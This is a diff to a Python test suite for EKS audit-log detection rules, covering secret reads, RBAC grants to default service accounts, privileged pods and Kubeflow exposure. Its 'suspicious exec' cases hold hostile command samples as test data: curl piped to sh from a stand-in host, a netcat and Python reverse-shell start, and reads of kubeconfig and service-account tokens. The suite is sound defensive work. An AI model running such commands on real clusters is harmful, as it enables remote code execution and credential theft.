@@ -156,7 +156,7 @@ cases.append(case("denied requests of a signed-in person are not anonymous", [
 ], {"EKS Anonymous Request Denied": 0}))
 cases.append(case("threat and Tor lists are empty by default: nothing is reported", [
     event("get", "pods", "shop", "web", user=ALICE, ip="198.51.100.7"),
-    event("list", "secrets", "shop", user=BOB, ip="185.220.101.1"),
+    event("get", "secrets", "shop", "db", user=BOB, ip="185.220.101.1"),
 ], {"EKS Request From A Listed Threat IP": 0, "EKS Request From A Tor Exit Node": 0,
     "EKS Secret Read By A Person": 1}))
 cases.append(case("the allow-list and activity rules are off by default", [
@@ -179,7 +179,7 @@ Identity and control-plane access: aws-auth, impersonation, anonymous access by 
 cases = []
 cases.append(case("a request from a listed threat address alerts, whatever it does", [
     event("get", "pods", "shop", "web", user=ALICE, ip="198.51.100.7"),
-    event("list", "secrets", "shop", user=CI, ip="192.0.2.77", ua="helm"),
+    event("get", "secrets", "shop", "db", user=CI, ip="192.0.2.77", ua="helm"),
     *exec_pair("shop", "web-7c9d8f6b5-x2k4q", "command=ls&stdout=true", user=BOB, ip="198.51.100.7"),
 ], {"EKS Request From A Listed Threat IP": 3, "EKS Secret Read By A Person": 1, "EKS Exec Into A Pod": 1}))
 cases.append(case("a refused request from a listed address, and other addresses, do not alert", [
@@ -249,12 +249,24 @@ cases.append(case("admin for default service accounts: namespaced admin, cluster
     event("patch", "rolebindings", "shop", "default-admin", user=CAROL, code=201, query="fieldManager=kubectl", req=dsa_rb, resp=status_of(dsa_rb)),
 ], {"EKS Default Service Account Given Admin Rights": 4, "EKS Binding To Cluster Admin Created": 1,
     "EKS Crucial Resource Changed By A Person": 1, "EKS RBAC Changed By A Person": 3}))
+dsa_user = binding("default-as-user", "edit", [user_subject("system:serviceaccount:shop:default")], ns="shop")
+ns_group = binding("shop-sas", "admin", [group_subject("system:serviceaccounts:shop")], ns="shop")
+cases.append(case("admin for default service accounts: as a User subject, through a namespace's group, by JSON patch", [
+    event("create", "rolebindings", "shop", "default-as-user", user=ALICE, req=dsa_user, resp=status_of(dsa_user)),
+    event("update", "rolebindings", "shop", "shop-sas", user=CI, ua="helm", req=ns_group, resp=status_of(ns_group)),
+    event("patch", "clusterrolebindings", None, "ops", user=BOB,
+          req=[{"op": "add", "path": "/subjects/-", "value": {"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}}],
+          resp=status_of(binding("ops", "cluster-admin", [user_subject("ops"), sa_subject("default", "kube-system")]))),
+], {"EKS Default Service Account Given Admin Rights": 3, "EKS Binding To Cluster Admin Created": 1,
+    "EKS Crucial Resource Changed By A Person": 1, "EKS RBAC Changed By A Person": 2}))
 named = binding("deployer-admin", "admin", [sa_subject("deployer", "shop")], ns="shop")
 dview = binding("default-view", "view", [sa_subject("default", "shop")], ns="shop")
 cases.append(case("admin for a named service account, or view for default, does not alert", [
     event("create", "rolebindings", "shop", "deployer-admin", user=BOB, req=named, resp=status_of(named)),
     event("create", "rolebindings", "shop", "default-view", user=BOB, req=dview, resp=status_of(dview)),
-], {"EKS Default Service Account Given Admin Rights": 0, "EKS RBAC Changed By A Person": 2}))
+    event("create", "rolebindings", "shop", "defaulter", user=BOB,
+          req=binding("defaulter", "admin", [user_subject("system:serviceaccount:shop:defaulter")], ns="shop")),
+], {"EKS Default Service Account Given Admin Rights": 0, "EKS RBAC Changed By A Person": 3}))
 
 esc = role("rbac-manager", [rule(["rbac.authorization.k8s.io"], ["clusterroles", "clusterrolebindings"], ["escalate", "bind"])])
 imp = role("impersonator", [rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"])], ns="shop")
@@ -375,16 +387,17 @@ cases.append(case("system secrets read by the kubelet, a controller and EKS do n
     event("list", "secrets", "kube-system", user=component("eks:addon-manager")),
 ], {"EKS AWS Principal Read A System Secret": 0}))
 
-cases.append(case("application secrets read by people: get and list, IAM role and IAM user", [
+cases.append(case("application secrets read by people: an IAM role's session, an IAM user, an aws-auth mapped user", [
     event("get", "secrets", "shop", "db-password", user=ALICE),
     event("get", "secrets", "payments", "stripe", user=BOB),
-    event("list", "secrets", "shop", user=CAROL),
+    event("get", "secrets", "shop", "tls", user=CAROL, ua="kubectl-old"),
 ], {"EKS Secret Read By A Person": 3}))
 cases.append(case("application secrets read by their pods' service accounts, Helm's release secrets, or refused, do not alert", [
     event("get", "secrets", "shop", "db-password", user=APP_SA, ua="web/1.42.0"),
     event("get", "secrets", "shop", "sh.helm.release.v1.shop.v42", user=CI, ua="helm"),
     event("list", "secrets", "shop", user=CI, ua="helm", uri="/api/v1/namespaces/shop/secrets?labelSelector=name%3Dshop%2Cowner%3Dhelm%2Cstatus%3Ddeployed"),
     event("get", "secrets", "shop", "db-password", user=CAROL, code=403),
+    event("list", "secrets", "shop", user=CAROL),
 ], {"EKS Secret Read By A Person": 0, "EKS Secret Access Denied": 1}))
 
 cases.append(case("secret access denied: 403 to a person and to a service account, 401", [
@@ -392,8 +405,9 @@ cases.append(case("secret access denied: 403 to a person and to a service accoun
     event("list", "secrets", "kube-system", user=APP_SA, code=403, ua="python-requests/2.31.0"),
     event("get", "secrets", "kube-system", "x", user={"username": "", "groups": []}, code=401, ua="curl"),
 ], {"EKS Secret Access Denied": 3}))
-cases.append(case("a kubelet refused a secret (node authorizer) and granted reads do not alert", [
+cases.append(case("a kubelet or a controller refused a secret, and granted reads, do not alert", [
     event("get", "secrets", "shop", "db-password", user=NODE, code=403, ua="kubelet/v1.31.2-eks-7f9249a (linux/amd64) kubernetes/7f9249a"),
+    event("get", "secrets", "payments", "stripe", user=sa("kube-system", "aws-load-balancer-controller"), code=403),
     event("get", "secrets", "shop", "db-password", user=APP_SA),
 ], {"EKS Secret Access Denied": 0}))
 
@@ -481,7 +495,12 @@ cases.append(case("suspicious exec: reverse shell, IMDS, pod identity endpoint, 
     started("get", "pods", "kube-system", "ebs-csi-controller-6d8f9c7b5-2kq9x", "exec",
             "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Feks.amazonaws.com%2Fserviceaccount%2Ftoken&container=ebs-plugin&stdout=true", user=CAROL),
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=nc&command=198.51.100.9&command=4444&stdin=true", user=APP_SA),
-], {"EKS Exec With A Suspicious Command": 5, "EKS Exec Into A System Pod": 1}))
+    started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec",
+            "command=sh&command=-c&command=curl+-s+https%3A%2F%2F198.51.100.9%2Fx.sh+%7C+sh", user=ALICE),
+    started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec",
+            "command=python3&command=-c&command=import+socket%2Csubprocess%2Cos%3Bs%3Dsocket.socket%28%29", user=ALICE),
+    started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=cat&command=%2Froot%2F.kube%2Fconfig", user=ALICE),
+], {"EKS Exec With A Suspicious Command": 8, "EKS Exec Into A System Pod": 1}))
 cases.append(case("ordinary exec commands are not suspicious", [
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=ls&command=-la&command=%2Fapp&stdout=true", user=ALICE),
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=env&stdout=true", user=ALICE),
@@ -705,7 +724,9 @@ cases.append(case("not privileged: false, EKS's DaemonSet pods in kube-system, i
     event("patch", "pods", "kube-system", "aws-node-8kq2z", sub="status", user=NODE, req={"status": {"phase": "Running"}},
           resp=status_of(pod("aws-node-8kq2z", "kube-system", pod_spec([container("aws-node", sc=PRIV)])))),
     event("patch", "deployments", "shop", "web", sub="scale", user=ALICE, req={"spec": {"replicas": 3}}),
-], {"EKS Privileged Container Created": 0, "EKS Workload Created In A System Namespace": 0}))
+    event("create", "pods", "amazon-guardduty", "aws-guardduty-agent-x7k2p", user=sa("kube-system", "daemon-set-controller"),
+          req=pod("aws-guardduty-agent-x7k2p", "amazon-guardduty", pod_spec([container("agent", sc=PRIV)], hostPID=True))),
+], {"EKS Privileged Container Created": 0, "EKS Workload Created In A System Namespace": 0, "EKS Host PID Workload Created": 0}))
 
 sens_pod = pod("root", "shop", pod_spec(volumes=[hostpath("host", "/")]))
 sock_dep = deployment("builder", "ci", pod_spec(volumes=[hostpath("docker", "/var/run/docker.sock", "Socket")]))
@@ -859,7 +880,8 @@ cases.append(case("Kubeflow dashboards behind a LoadBalancer: central dashboard,
     event("create", "services", "kubeflow", "centraldashboard", user=ALICE, req=kf, resp=status_of(kf)),
     event("patch", "services", "kubeflow", "ml-pipeline-ui", user=BOB, req={"spec": {"type": "LoadBalancer"}},
           resp=status_of(service("ml-pipeline-ui", "kubeflow", "LoadBalancer", selector={"app": "ml-pipeline-ui"}))),
-], {"EKS Kubeflow Dashboard Exposed Through A Load Balancer": 2}))
+    event("create", "services", "kubeflow", "gateway", user=CI, ua="helm", req=service("gateway", "kubeflow", "LoadBalancer", selector={"istio": "ingressgateway"})),
+], {"EKS Kubeflow Dashboard Exposed Through A Load Balancer": 3}))
 cases.append(case("Kubeflow's dashboard as ClusterIP does not alert", [
     event("create", "services", "kubeflow", "centraldashboard", user=ALICE, req=service("centraldashboard", "kubeflow", selector={"app": "centraldashboard"})),
 ], {"EKS Kubeflow Dashboard Exposed Through A Load Balancer": 0}))
